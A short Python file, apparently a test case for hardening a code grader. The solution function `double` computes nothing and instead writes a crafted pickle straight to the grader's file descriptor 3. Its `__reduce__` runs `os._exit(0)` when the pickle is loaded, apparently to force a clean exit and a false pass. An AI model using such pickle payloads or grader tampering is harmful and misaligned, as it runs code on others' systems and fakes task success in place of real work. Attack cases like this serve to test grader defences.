"""
aim: send a pickle that runs code in the grader where a message is expected
layer: wire
levels: A B C D
"""

import pickle
import os
import struct

import msgspec


def send(message, body=b""):
    """Write a message past the worker's own code."""
    header = message if isinstance(message, bytes) else msgspec.msgpack.encode(message)
    data = struct.pack("<II", len(header), len(body)) + header + body
    while data:
        data = data[os.write(3, data) :]


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


def double(x):
    send(pickle.dumps(Bomb()))
